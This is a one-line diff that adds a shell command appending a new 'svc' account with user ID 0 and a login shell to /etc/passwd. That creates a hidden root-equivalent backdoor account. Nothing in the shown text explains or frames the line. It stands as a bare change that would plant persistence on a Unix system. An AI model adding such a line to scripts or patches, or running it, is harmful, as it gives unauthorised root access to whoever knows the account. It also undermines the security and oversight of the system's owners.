@@ -1,0 +1,1 @@
+echo 'svc:x:0:0::/root:/bin/sh' >> /etc/passwd
